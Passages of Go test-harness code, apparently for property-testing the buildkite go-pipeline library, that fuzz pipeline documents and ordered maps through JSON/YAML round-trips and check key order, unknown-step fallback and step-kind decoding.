			if depth <= 120 && i%3 == 0 {
				if t, err := doc.ToYAML(d, doc.YAMLOpts{}); err == nil {
					text, style = t, "yaml-block"
				}
			}
			if !c08CheckText(c, run.CaseID("deep", i), text, style, d) {
				return
			}
			c.Feature("deep", depth/10, seqs, style)
			c.Max("max_depth_of_an_ordered_mapping", int64(depth))
		})
	})
	// Phase 2: general grammar documents with order-significant positions honoured.
	n2 := c.N(1500, 40000)
	c.Phase("grammar-docs", func() {
		c.Parallel("gram", n2, func(i int, r *rand.Rand) {
			d, err := gen.Pipeline(r, gen.PipeOpts{Str: gen.StringOpts{Tricky: true}, Unknown: true, Sharing: mix(i, 1, 3) == 0, TrickyKeys: true, BigMaps: mix(i, 2, 4) == 0}.NoSweep())
			if err != nil {
				return
			}
			rs := renderings(d, r, 1, func(style, why string) { c.Count("renderings_discarded_generator_invalid", 1) })
			for _, rd := range rs {
				if !c08CheckText(c, run.CaseID("gram", i), rd.Text, rd.Style, d.Plain) {
					return
				}
			}
			c.Feature("gram", d.FeatureVector())
		})
	})
	// Fallback: a step of a known kind that fails to load halfway (a later field is wrongly typed) is kept as an
	// unknown step; the mappings nested in it, some of them already visited by the typed loader, stay in document order.
	c.Phase("fallback", func() { c08Fallback(c) })
	// Phase 3: programmatic maps survive encode/decode with keys, values and order.
	n3 := c.N(800, 60000)
	c.Phase("programmatic", func() {
		c.Parallel("prog", n3, func(i int, r *rand.Rand) {
			g := &gen.UID{}
			var build func(depth int) *doc.Node
			build = func(depth int) *doc.Node {
				m := doc.M()
				m.Map = []doc.Pair{}
				used := map[string]bool{}
				for j, n := 0, gen.OrderSizes[r.IntN(len(gen.OrderSizes)-1)]; j < n; j++ {
					var k string
					switch r.IntN(5) {
					case 0:
						k = gen.String(r, gen.StringOpts{Tricky: true})
						if k == "<<" {
							k = "<<x"
						}
						if len(k) > 300 {
							k = k[:300]
						}
					case 1:
						k = ""
					default:
						k = gen.Ident(r) + g.Next()
					}
					if used[k] {
						continue
					}
					used[k] = true
					var v *doc.Node
					switch {
					case depth > 0 && r.IntN(5) == 0:
						v = build(depth - 1)
					case depth > 0 && r.IntN(8) == 0:
						v = doc.L(build(depth-1), doc.S("x"), doc.I(3), doc.Null(), doc.L())
						v.Seq[4].Seq = []*doc.Node{}
					default:
						switch r.IntN(7) {
						case 0:
							v = doc.Null()
						case 1:
							v = doc.B(r.IntN(2) == 0)
						case 2:
							v = doc.I(int64(r.IntN(1000)) - 500)
						case 3:
							v = doc.F(float64(r.IntN(1000))/8 + 0.0625) // non-integral
						default:
							s := gen.String(r, gen.StringOpts{Tricky: true})
							v = doc.S(s)
						}
					}
					m.Map = append(m.Map, doc.P(k, v))
				}
				return m
			}
			tree := build(3)
			id := run.CaseID("prog", i)
			c.Eval(1)
			m := docToAny(tree).(*ordered.MapSA)
			if mix(i, 3, 3) == 1 && len(tree.Map) > 0 {
				// built with the variadic constructor from a slice of pairs, one key given twice now and then (what that
				// means is the constructor's business; the tree then follows what iteration shows)
				var pairs []ordered.Tuple[string, any]
				for _, p := range tree.Map {
					pairs = append(pairs, ordered.Tuple[string, any]{Key: p.Key, Value: docToAny(p.Val)})
				}
				if r.IntN(2) == 0 {
					j := r.IntN(len(pairs))
					pairs = append(pairs, ordered.Tuple[string, any]{})
					at := j + 1 + r.IntN(len(pairs)-j-1)
					copy(pairs[at+1:], pairs[at:])
					pairs[at] = ordered.Tuple[string, any]{Key: pairs[j].Key, Value: "given twice"}
					c.Count("programmatic_maps_from_items_with_repeated_key", 1)
				}
				m = ordered.MapFromItems(pairs...)
				tree = anyToDoc(m)
				c.Count("programmatic_maps_from_items", 1)
			}
			// "built programmatically" includes deletions and in-place renames: apply a short
			// history (always touching the first pair in one of the variants) to both the map
			// and the tree, so that the encoders see tombstoned storage as well
			nops := 0
			if mix(i, 4, 2) == 0 && len(tree.Map) >= 3 {
				for k, n := 0, 1+r.IntN(3); k < n && len(tree.Map) >= 2; k++ {
					j := r.IntN(len(tree.Map))
					if k == 0 && r.IntN(2) == 0 {
						j = 0
					}
					switch r.IntN(5) {
					case 3: // a key the map does not have, renamed onto one it has: that pair goes, the new one is appended
						v := doc.S("took the name over")
						m.Replace("never-set"+g.Next(), tree.Map[j].Key, docToAny(v))
						moved := doc.P(tree.Map[j].Key, v)
						tree.Map = append(append(tree.Map[:j:j], tree.Map[j+1:]...), moved)
					case 4: // ... or onto a fresh key: appended
						v := doc.S("appended")
						nk := "fresh" + g.Next()
						m.Replace("never-set"+g.Next(), nk, docToAny(v))
						tree.Map = append(tree.Map, doc.P(nk, v))
					case 0: // delete
						m.Delete(tree.Map[j].Key)
						tree.Map = append(tree.Map[:j:j], tree.Map[j+1:]...)
					case 1: // rename a later pair onto this key (this pair disappears, the later one takes the name in its own place)
						l := j + 1 + r.IntN(len(tree.Map)-j-1+1)
						if l >= len(tree.Map) {
							l = len(tree.Map) - 1
						}
						if l == j {
							continue
						}
						m.Replace(tree.Map[l].Key, tree.Map[j].Key, docToAny(tree.Map[l].Val))
						tree.Map[l].Key = tree.Map[j].Key
						tree.Map = append(tree.Map[:j:j], tree.Map[j+1:]...)
					default: // rename to a fresh key in place
						nk := "renamed" + g.Next()
						m.Replace(tree.Map[j].Key, nk, docToAny(tree.Map[j].Val))
						tree.Map[j].Key = nk
					}
					nops++
				}
				c.Count("programmatic_maps_with_delete_or_rename_history", 1)
			}
			c.Feature("prog", len(tree.Map) > 8, tree.Depth(), nops > 0)
			// JSON
			jb, err := m.MarshalJSON()
			if err != nil {
				c.Violation(id, map[string]any{"what": "MarshalJSON: " + err.Error(), "map": tree.String()})
				return
			}
			back := ordered.NewMap[string, any](0)
			if err := back.UnmarshalJSON(jb); err != nil {
				c.Violation(id, map[string]any{"what": "UnmarshalJSON of own output: " + err.Error(), "json": clip(string(jb), 4000)})
				return
			}
			if !ordered.Equal(m, back) || doc.Equal(tree, anyToDoc(back), doc.EqOpts{Ordered: true}) != "" {
				c.Violation(id, map[string]any{"what": "map differs after JSON encode/decode: " + doc.Equal(tree, anyToDoc(back), doc.EqOpts{Ordered: true}), "json": clip(string(jb), 4000)})
				return
			}
			c.Count("programmatic_json_roundtrips", 1)
			if leadingWSMultiline(tree) {
				c.Count("yaml_legs_skipped_leading_ws_multiline", 1)
				return
			}
			yb, err := yaml.Marshal(m)
			if err != nil {
				c.Violation(id, map[string]any{"what": "yaml.Marshal: " + err.Error(), "map": clip(tree.String(), 4000)})
				return
			}
			back2 := ordered.NewMap[string, any](0)
			if err := yaml.Unmarshal(yb, back2); err != nil {
				c.Violation(id, map[string]any{"what": "yaml.Unmarshal of own output: " + err.Error(), "yaml": clip(string(yb), 4000)})
				return
			}
			if !ordered.Equal(m, back2) || doc.Equal(tree, anyToDoc(back2), doc.EqOpts{Ordered: true}) != "" {
				c.Violation(id, map[string]any{"what": "map differs after YAML encode/decode: " + doc.Equal(tree, anyToDoc(back2), doc.EqOpts{Ordered: true}), "yaml": clip(string(yb), 4000)})
				return
			}
			c.Count("programmatic_yaml_roundtrips", 1)
			// MapSS as well
			if mix(i, 5, 4) == 0 {
				ss := ordered.NewMap[string, string](0)
				for _, p := range tree.Map {
					if p.Val.Kind == doc.KStr {
						ss.Set(p.Key, p.Val.Str)
					}
				}
				b1, err1 := json.Marshal(ss)
				b2, err2 := yaml.Marshal(ss)
				s1, s2 := ordered.NewMap[string, string](0), ordered.NewMap[string, string](0)
				if err1 != nil || err2 != nil || s1.UnmarshalJSON(b1) != nil || yaml.Unmarshal(b2, s2) != nil || !ordered.Equal(ss, s1) || !ordered.Equal(ss, s2) {
					c.Violation(id, map[string]any{"what": "string map differs after encode/decode", "json": clip(string(b1), 2000), "yaml": clip(string(b2), 2000)})
					return
				}
				c.Count("programmatic_mapss_roundtrips", 1)
				// other value types: floats (integral ones come back from the decoder as ints first), string lists,
				// and the shallow form that keeps value nodes undecoded
				fm := ordered.NewMap[string, float64](0)
				lm := ordered.NewMap[string, []string](0)
				for j, p := range tree.Map {
					fm.Set(p.Key, []float64{float64(j), float64(j) + 0.5, -3, 1e21, 0}[j%5])
					lm.Set(p.Key, []string{p.Key, "x"}[:1+j%2])
				}
				fb1, ferr1 := json.Marshal(fm)
				fb2, ferr2 := yaml.Marshal(fm)
				f1, f2 := ordered.NewMap[string, float64](0), ordered.NewMap[string, float64](0)
				if ferr1 != nil || ferr2 != nil || f1.UnmarshalJSON(fb1) != nil || yaml.Unmarshal(fb2, f2) != nil || !ordered.Equal(fm, f1) || !ordered.Equal(fm, f2) {
					c.Violation(id, map[string]any{"what": "map of floats differs after encode/decode", "json": clip(string(fb1), 2000), "yaml": clip(string(fb2), 2000)})
					return
				}
				lb1, lerr1 := json.Marshal(lm)
				lb2, lerr2 := yaml.Marshal(lm)
				l1, l2 := ordered.NewMap[string, []string](0), ordered.NewMap[string, []string](0)
				if lerr1 != nil || lerr2 != nil || l1.UnmarshalJSON(lb1) != nil || yaml.Unmarshal(lb2, l2) != nil || !ordered.Equal(lm, l1) || !ordered.Equal(lm, l2) {
					c.Violation(id, map[string]any{"what": "map of string lists differs after encode/decode", "json": clip(string(lb1), 2000), "yaml": clip(string(lb2), 2000)})
					return
				}
				nm := ordered.NewMap[string, *yaml.Node](0)
				if err := yaml.Unmarshal(yb, nm); err != nil {
					c.Violation(id, map[string]any{"what": "shallow decode (values kept as nodes) of own YAML output: " + err.Error(), "yaml": clip(string(yb), 4000)})
					return
				}
				var gotKeys, wantKeys []string
				_ = nm.Range(func(k string, _ *yaml.Node) error { gotKeys = append(gotKeys, k); return nil })
				for _, p := range tree.Map {
					wantKeys = append(wantKeys, p.Key)
				}
				if fmt.Sprintf("%q", gotKeys) != fmt.Sprintf("%q", wantKeys) {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("shallow decode: keys %q, want %q", gotKeys, wantKeys)})
					return
				}
				c.Count("programmatic_typed_value_roundtrips", 3)
			}
		})
	})
	c.Finish("exploration",
		"phase 1: documents aimed at order-preserving positions (pipeline env block, plugins as one mapping, mappings nested in extras of every step kind, in wait/input/trigger contents, in group and pipeline extras, unknown steps) with mappings of 0-300 keys mixing plain, quoting-needing, numeric-/boolean-looking, unquoted int/bool, empty and Unicode keys, nested to depth 4, optionally with `<<` merges (single and sequences) inside ordered positions, as JSON and YAML; the key sequence of both marshallings (independent readers) must equal the document's (merge resolver for merged keys); phase 2: general grammar documents with the same order check; phase 3: programmatically built maps (nested maps, slices, strings, bools, ints, non-integral floats, nil) through MarshalJSON/UnmarshalJSON and yaml.Marshal/Unmarshal compared with Equal and with the harness tree. distinct_nontrivial counts distinct feature vectors / (size class, depth) classes",
		nil,
		[]string{"order inside plugin configs and at Go-map-backed levels is not significant", "the key `<<` is known finding K4 and not generated", "integral floats may come back as integers (JSON has one number type) and are not generated in phase 3", "YAML leg skipped for data with multi-line strings that begin with whitespace"})
}

// c08Fallback writes command steps as compact JSON: nested mappings mixing keys the typed loader knows with keys
// it does not, in random order (matrix, an adjustment, a plugin configuration, a retry block, an unknown field),
// then one wrongly typed field. Whenever the library keeps the step as an unknown step, its JSON form must be
// the step as written, key for key in document order.
func c08Fallback(c *run.Ctx) {
	n := c.N(600, 12000)
	bad := []string{`"cache":42`, `"signature":42`, `"plugins":42`, `"env":42`, `"cache":[1,{}]`, `"matrix_x":1,"cache":true,"zz":0`}
	c.Parallel("fb", n, func(i int, r *rand.Rand) {
		shuffled := func(items []string) string {
			r.Shuffle(len(items), func(a, b int) { items[a], items[b] = items[b], items[a] })
			out := "{"
			for j, it := range items {
				if j > 0 {
					out += ","
				}
				out += it
			}
			return out + "}"
		}
		extra := func(pfx string) []string {
			var out []string
			for j, k := 0, 1+r.IntN(4); j < k; j++ {
				out = append(out, fmt.Sprintf(`"%s%c%d":%d`, pfx, 'a'+rune(r.IntN(26)), j, r.IntN(100)))
			}
			return out
		}
		adj := shuffled(append(extra("j"), `"with":{"os":"linux"}`, `"soft_fail":true`))
		matrix := shuffled(append(extra("m"), `"setup":{"os":["linux","mac"]}`, `"adjustments":[`+adj+`]`))
		retry := shuffled(append(extra("r"), `"manual":`+shuffled(append(extra("q"), `"allowed":false`))))
		plug := shuffled(append(extra("p"), `"image":"x"`))
		unk := shuffled(append(extra("u"), `"nested":`+shuffled(extra("v"))))
		fields := []string{`"command":"echo hi"`, `"matrix":` + matrix, `"retry":` + retry, `"plugins":[{"docker#v1":` + plug + `}]`, `"zfield":` + unk, `"label":"l"`}
		b := bad[i%len(bad)]
		if i%len(bad) == 2 {
			fields = append(fields[:3], fields[4:]...)
		}
		r.Shuffle(len(fields), func(a, b int) { fields[a], fields[b] = fields[b], fields[a] })
		at := r.IntN(len(fields) + 1)
		fields = append(fields[:at], append([]string{b}, fields[at:]...)...)
		step := "{"
		for j, f := range fields {
			if j > 0 {
				step += ","
			}
			step += f
		}
		step += "}"
		text := `{"steps":[` + step + `]}`
		id := run.CaseID("fb", i)
		p, perr := parseText(text)
		c.Eval(1)
		if perr != nil && !warning.Is(perr) {
			c.Count("fallback_documents_rejected", 1)
			return
		}
		if p == nil || len(p.Steps) != 1 {
			c.Count("fallback_documents_without_one_step", 1)
			return
		}
		if _, ok := p.Steps[0].(*pipeline.UnknownStep); !ok {
			c.Count("fallback_documents_kept_as_typed_step", 1)
			return
		}
		c.Count("fallback_steps_kept_as_unknown_step", 1)
		c.Count("fallback_unknown_steps_with_bad_field_"+fmt.Sprint(i%len(bad)), 1)
		jb, err := safeJSONMarshal(p.Steps[0])
		if err != nil {
			c.Violation(id, map[string]any{"what": "unknown step kept after a failed load does not marshal: " + err.Error(), "document": text})
			return
		}
		if string(jb) != step {
			c.Violation(id, map[string]any{"what": "a step kept as an unknown step after a wrongly typed field does not come back as written (nested mapping out of document order, or data differs)", "document": text, "step_as_written": step, "json": string(jb)})
			return
		}
		c.Feature("fb", i%len(bad), at, len(fields))
	})
}
