package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"strings"
	"time"

	pipeline "github.com/buildkite/go-pipeline"
	"gopkg.in/yaml.v3"

	"verif/doc"
	"verif/gen"
)

// rendering is one textual form of a generated document.
type rendering struct {
	Style string
	Text  string
}

// renderings produces the JSON form and n YAML forms of a document, each
// YAML form self-checked: the text is read back with yaml.v3's Node API,
// merges are resolved by the harness resolver and the result must equal the
// plain tree; a mismatch discards that rendering (generator-invalid).
func renderings(d *gen.PipeDoc, r *rand.Rand, nYAML int, discard func(style, why string)) []rendering {
	out := []rendering{{"json", string(doc.ToJSON(d.Plain))}}
	for k := 0; k < nYAML; k++ {
		o := doc.YAMLOpts{Rng: r, Flow: []float64{0, 0.15, 0.5}[r.IntN(3)], Anchors: d.HasSharing, Compact: r.IntN(2) == 0}
		style := fmt.Sprintf("yaml(flow=%.2f,anchors=%v,compact=%v)", o.Flow, o.Anchors, o.Compact)
		txt, err := doc.ToYAML(d.Root, o)
		if err != nil {
			discard(style, err.Error())
			continue
		}
		// whole-document layout variants: uniform indentation, leading blank / comment lines, document start marker
		switch r.IntN(8) {
		case 0:
			pad := strings.Repeat(" ", 1+r.IntN(4))
			lines := strings.Split(strings.TrimRight(txt, "\n"), "\n")
			for i, l := range lines {
				if l != "" {
					lines[i] = pad + l
				}
			}
			txt = strings.Join(lines, "\n") + "\n"
			style += "+indented"
		case 1:
			txt = "\n\n# leading comment\n\n" + txt
			style += "+leading-blank-lines"
		case 2:
			txt = "---\n" + txt
			style += "+document-marker"
		case 3:
			txt = "\n  \n" + strings.Join(func() []string {
				ls := strings.Split(strings.TrimRight(txt, "\n"), "\n")
				for i, l := range ls {
					if l != "" {
						ls[i] = "  " + l
					}
				}
				return ls
			}(), "\n") + "\n"
			style += "+blank-then-indented"
		}
		back, err := doc.FromYAMLInput([]byte(txt))
		if err != nil {
			discard(style, "unreadable: "+err.Error())
			continue
		}
		res, err := doc.ResolveMerges(back, 0)
		if err != nil {
			discard(style, "unresolvable: "+err.Error())
			continue
		}
		if diff := doc.Equal(d.Plain, res, doc.EqOpts{Ordered: true}); diff != "" {
			discard(style, "self-check: "+diff)
			continue
		}
		out = append(out, rendering{style, txt})
	}
	return out
}

// leadingWSMultiline is the YAML-leg exclusion predicate of C02/C09: the
// data contains a multi-line string whose first character is whitespace.
func leadingWSMultiline(n *doc.Node) bool {
	bad := func(s string) bool {
		if s == "" || !strings.ContainsAny(s, "\n\r  \u0085") {
			return false
		}
		switch s[0] {
		case ' ', '\t', '\n', '\r':
			return true
		}
		return false
	}
	found := false
	n.Walk(func(x *doc.Node) {
		if x.Kind == doc.KStr && bad(x.Str) {
			found = true
		}
		for _, p := range x.Map {
			if bad(p.Key) {
				found = true
			}
		}
	})
	return found
}

func parseText(text string) (p *pipeline.Pipeline, err error) {
	return pipeline.Parse(strings.NewReader(text))
}

// marshalBoth marshals to JSON and YAML and reads both back with the
// independent readers.
// safeJSONMarshal / safeYAMLMarshal turn a panic inside the encoders (for
// example yaml.v3 refusing an inlined map that collides with a struct field)
// into an error: for the monitors it is the library handing out an object
// that cannot be marshalled, not a harness failure.
func safeJSONMarshal(v any) (b []byte, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic while marshalling: %v", r)
		}
	}()
	return json.Marshal(v)
}

func safeYAMLMarshal(v any) (b []byte, err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic while marshalling: %v", r)
		}
	}()
	return yaml.Marshal(v)
}

func marshalJSONTree(v any) ([]byte, *doc.Node, error) {
	b, err := safeJSONMarshal(v)
	if err != nil {
		return nil, nil, fmt.Errorf("json.Marshal: %w", err)
	}
	n, err := doc.FromJSON(b)
	if err != nil {
		return b, nil, fmt.Errorf("JSON output unreadable: %w", err)
	}
	return b, n, nil
}

func marshalYAMLTree(v any) ([]byte, *doc.Node, error) {
	b, err := safeYAMLMarshal(v)
	if err != nil {
		return nil, nil, fmt.Errorf("yaml.Marshal: %w", err)
	}
	n, err := doc.FromYAML(b)
	if err != nil {
		return b, nil, fmt.Errorf("YAML output unreadable: %w", err)
	}
	if doc.HasMerge(n) {
		return b, n, fmt.Errorf("YAML output contains a merge key")
	}
	return b, n, nil
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

// runChild is the body of "gpv child <name>".
func runChild(name string) {
	f, ok := children[name]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown child job %q\n", name)
		os.Exit(3)
	}
	in, err := io.ReadAll(os.Stdin)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(3)
	}
	out, err := json.Marshal(f(in))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(3)
	}
	os.Stdout.Write(out)
}

// freshProcess runs a child job in a new process of this binary and decodes
// its reply. A child that dies or times out is an infrastructure matter of
// the caller's (the job's own verdict travels in the reply).
func freshProcess(name string, req any, reply any) error {
	return freshProcessEnv(name, req, reply)
}

// freshProcessEnv is freshProcess with extra environment entries (appended last, so they win).
func freshProcessEnv(name string, req any, reply any, extraEnv ...string) error {
	exe, err := os.Executable()
	if err != nil {
		return err
	}
	in, err := json.Marshal(req)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, exe, "child", name)
	cmd.Stdin = bytes.NewReader(in)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	cmd.Env = append(append(os.Environ(), "GORACE=halt_on_error=0 exitcode=0"), extraEnv...)
	if err := cmd.Run(); err != nil {
		return fmt.Errorf("child %s: %v: %s", name, err, clip(stderr.String(), 2000))
	}
	return json.Unmarshal(stdout.Bytes(), reply)
}

// mix derives a small pseudo-random number from a case index and a salt, so
// that independent case features are not coupled through residues of the
// same index (i%2 and i%4 are not independent; mix(i,1,2) and mix(i,2,4) are).
func mix(i int, salt uint64, mod int) int {
	x := uint64(i)*0x9E3779B97F4A7C15 + salt*0xBF58476D1CE4E5B9
	x ^= x >> 31
	x *= 0x94D049BB133111EB
	x ^= x >> 29
	return int(x % uint64(mod))
}
