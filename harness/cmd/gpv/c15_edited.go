package main

import (
	"errors"
	"fmt"
	"math/rand/v2"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"github.com/buildkite/go-pipeline/warning"

	"verif/run"
)

func c15GoValue(k string) any {
	switch k {
	case "command":
		return "c"
	case "commands":
		return []any{"c1", "c2"}
	case "plugins":
		return []any{"p#v1"}
	case "wait", "waiter":
		return nil
	case "type":
		return "wait"
	}
	return k + "-value"
}

// c15EditedPhase: the step mapping is an ordered map that a program built and
// edited before handing it to the decoder (keys set and deleted again, keys
// renamed, also onto a key that already exists). The decision is the rule
// table applied to the keys the mapping has now; keys it had at some earlier
// point are not keys of the mapping.
func c15EditedPhase(c *run.Ctx) {
	c.Phase("edited-mapping", func() {
		c.Parallel("edited", c.N(20000, 400000), func(i int, r *rand.Rand) {
			id := run.CaseID("edited", i)
			live := map[string]bool{}
			var liveKeys []string
			for _, k := range c15Keys {
				if r.IntN(5) == 0 {
					live[k] = true
					liveKeys = append(liveKeys, k)
				}
			}
			var typ *string
			if r.IntN(4) == 0 {
				t := []string{"command", "script", "wait", "waiter", "block", "input", "manual", "trigger", "group", "nope", ""}[r.IntN(11)]
				typ = &t
			}
			// ghosts: kind keys (and type) the mapping once had
			var ghosts []string
			for _, k := range append(append([]string{}, c15Keys...), "type") {
				if !live[k] && !(k == "type" && typ != nil) && r.IntN(4) == 0 {
					ghosts = append(ghosts, k)
				}
			}
			extras := r.IntN(7)
			type op struct {
				key   string
				ghost bool
			}
			var sets []op
			for _, k := range liveKeys {
				sets = append(sets, op{k, false})
			}
			if typ != nil {
				sets = append(sets, op{"type", false})
			}
			for _, k := range ghosts {
				sets = append(sets, op{k, true})
			}
			for k := 0; k < extras; k++ {
				sets = append(sets, op{fmt.Sprintf("extra_%d", k), false})
			}
			r.Shuffle(len(sets), func(a, b int) { sets[a], sets[b] = sets[b], sets[a] })
			m := ordered.NewMap[string, any](0)
			var history []string
			for _, o := range sets {
				v := c15GoValue(o.key)
				if o.key == "type" && !o.ghost {
					v = *typ
				}
				m.Set(o.key, v)
				history = append(history, "set "+o.key)
			}
			removed := 0
			for _, g := range ghosts {
				switch r.IntN(3) {
				case 0:
					m.Delete(g)
					history = append(history, "delete "+g)
				case 1:
					m.Replace(g, "renamed_"+g, "was "+g)
					history = append(history, "rename "+g+" -> renamed_"+g)
				default:
					// renamed onto a key the mapping already has, keeping that key's value
					target := ""
					if extras > 0 {
						target = fmt.Sprintf("extra_%d", r.IntN(extras))
					} else if len(liveKeys) > 0 {
						target = liveKeys[r.IntN(len(liveKeys))]
					}
					if target == "" {
						m.Delete(g)
						history = append(history, "delete "+g)
					} else {
						v, _ := m.Get(target)
						m.Replace(g, target, v)
						history = append(history, "rename "+g+" -> "+target+" (already present)")
					}
				}
				removed++
			}
			wantKind, wantSentinel := c15Table(live, typ)
			var steps pipeline.Steps
			var err error
			if pi := run.Guard(func() { err = ordered.Unmarshal([]any{m}, &steps) }); pi != nil {
				c.Violation(id, map[string]any{"what": "decoding an edited step mapping panicked: " + pi.Value, "history": history, "stack": pi.Stack})
				return
			}
			c.Eval(1)
			c.Feature("edited", len(liveKeys), typ != nil, min(len(ghosts), 4), extras, wantKind)
			if err != nil && !warning.Is(err) {
				c.Violation(id, map[string]any{"what": "decoding an edited step mapping failed: " + err.Error(), "history": history})
				return
			}
			if len(steps) != 1 {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("expected one step, got %d", len(steps)), "history": history})
				return
			}
			got := stepKind(steps[0])
			if got != wantKind {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("an edited step mapping was decoded as %s, the rule table applied to the keys it has now says %s", got, wantKind),
					"history": history, "keys_now": refKeys(live), "keys_it_once_had": ghosts, "slots_ever_used": len(sets)})
				return
			}
			if wantKind == "unknown" {
				if err == nil || !errors.Is(err, wantSentinel) {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("unknown step without a warning wrapping %q (got %v)", wantSentinel, err), "history": history})
					return
				}
			} else if err != nil {
				c.Violation(id, map[string]any{"what": "known step kind but a warning was reported: " + err.Error(), "history": history})
				return
			}
			if removed > 0 {
				c.Count("edited_mappings_with_removed_kind_keys", 1)
			}
		})
	})
}

// c15ManyPhase: step lists of up to several hundred entries in which a known
// number of steps are unknown for one of the two reasons: every entry gets
// the kind the table gives it, and the warning names each cause as often as
// it occurs - the last one of a long list like the first.
func c15ManyPhase(c *run.Ctx) {
	c.Phase("long-lists", func() {
		sizes := []int{1, 2, 9, 33, 99, 100, 101, 102, 130, 257, 700}
		c.Parallel("long", len(sizes)*c.N(4, 40), func(i int, r *rand.Rand) {
			id := run.CaseID("long", i)
			n := sizes[i%len(sizes)]
			var text []byte
			text = append(text, "steps:\n"...)
			var want []string
			nType, nInfer := 0, 0
			// the last entries carry the rarer cause
			for k := 0; k < n; k++ {
				switch {
				case k >= n-1-(i/len(sizes))%3 && i%2 == 0:
					text = append(text, fmt.Sprintf("  - nokind_%d: %d\n", k, k)...)
					want = append(want, "unknown")
					nInfer++
				case r.IntN(4) == 0:
					text = append(text, fmt.Sprintf("  - command: make %d\n", k)...)
					want = append(want, "command")
				case r.IntN(9) == 0:
					text = append(text, "  - wait\n"...)
					want = append(want, "wait")
				case r.IntN(12) == 0:
					text = append(text, fmt.Sprintf("  - nokind_%d: %d\n", k, k)...)
					want = append(want, "unknown")
					nInfer++
				default:
					text = append(text, fmt.Sprintf("  - type: future-kind-%d\n", k)...)
					want = append(want, "unknown")
					nType++
				}
			}
			p, err := parseText(string(text))
			c.Eval(1)
			c.Feature("long", n, nType > 0, nInfer > 0)
			if err != nil && !warning.Is(err) {
				c.Violation(id, map[string]any{"what": "a list of well-typed steps hard-fails: " + err.Error(), "entries": n})
				return
			}
			if len(p.Steps) != n {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%d entries, %d steps", n, len(p.Steps))})
				return
			}
			for k, s := range p.Steps {
				if got := stepKind(s); got != want[k] {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("entry %d of %d parsed as %s, rule table says %s", k+1, n, got, want[k])})
					return
				}
			}
			if (nType > 0) != errors.Is(err, pipeline.ErrUnknownStepType) || (nInfer > 0) != errors.Is(err, pipeline.ErrStepTypeInference) {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%d entries with an unknown type and %d entries without any kind-determining key among %d, but the warning wraps ErrUnknownStepType=%v ErrStepTypeInference=%v",
					nType, nInfer, n, errors.Is(err, pipeline.ErrUnknownStepType), errors.Is(err, pipeline.ErrStepTypeInference)), "warning_tail": clipTail(fmt.Sprint(err), 600)})
				return
			}
			if l := warningLeaves(err); l < nType+nInfer {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("%d unknown steps among %d entries but the warning reports only %d causes", nType+nInfer, n, l), "warning_tail": clipTail(fmt.Sprint(err), 600)})
				return
			}
			c.Count("long_lists_checked", 1)
			c.Count("unknown_steps_in_long_lists", nType+nInfer)
		})
	})
}

func clipTail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return "..." + s[len(s)-n:]
}
