package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"

	pipeline "github.com/buildkite/go-pipeline"
	"github.com/google/go-cmp/cmp"

	"verif/refmodel"
	"verif/run"
)

// c12MapJSON applies f to the in-scope strings of the JSON form of a command
// step without plugins: command, label, env values, and keys and values of
// every field the library does not model (at any depth). key, matrix,
// signature, cache and env names are left alone.
func c12MapJSON(step map[string]any, f func(string) string) map[string]any {
	var deep func(v any) any
	deep = func(v any) any {
		switch x := v.(type) {
		case string:
			return f(x)
		case []any:
			out := make([]any, len(x))
			for i, e := range x {
				out[i] = deep(e)
			}
			return out
		case map[string]any:
			out := make(map[string]any, len(x))
			for k, e := range x {
				out[f(k)] = deep(e)
			}
			return out
		}
		return v
	}
	out := map[string]any{}
	for k, v := range step {
		switch k {
		case "key", "matrix", "signature", "cache", "plugins":
			out[k] = v
		case "command", "label":
			out[k] = deep(v)
		case "env":
			m, _ := v.(map[string]any)
			e := make(map[string]any, len(m))
			for n, x := range m {
				e[n] = deep(x)
			}
			out[k] = e
		default:
			out[f(k)] = deep(v)
		}
	}
	return out
}

func c12StepTree(st *pipeline.CommandStep) (map[string]any, error) {
	b, err := safeJSONMarshal(st)
	if err != nil {
		return nil, err
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		return nil, err
	}
	return m, nil
}

// c12ParsedPhase: steps obtained by parsing YAML in which one anchored value
// (carrying matrix tokens) is referenced by several aliases, in unknown fields
// of one step and of several steps. Each alias stands for its own copy of the
// value, so interpolating a step with its permutation must give the
// single-pass replacement of that step's own strings, whatever was done to
// its siblings before or afterwards.
func c12ParsedPhase(c *run.Ctx) {
	c.Phase("parsed", func() {
		c.Parallel("parsed", c.N(3000, 60000), func(i int, r *rand.Rand) {
			id := run.CaseID("parsed", i)
			q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
			anon := mix(i, 1, 4) == 0
			dims := []string{"os", "arch"}
			if anon {
				dims = []string{""}
			} else if mix(i, 2, 3) == 0 {
				dims = []string{"os", "arch", "matrix_os"}
			}
			uid := 0
			tok := func(d string) string {
				ws := []string{"", " ", "\t"}[r.IntN(3)]
				if d == "" {
					return "{{" + ws + "matrix" + ws + "}}"
				}
				return "{{" + ws + "matrix." + d + ws + "}}"
			}
			str := func() string {
				uid++
				var b strings.Builder
				for p, n := 0, 1+r.IntN(3); p < n; p++ {
					switch r.IntN(4) {
					case 0, 1:
						b.WriteString(tok(dims[r.IntN(len(dims))]))
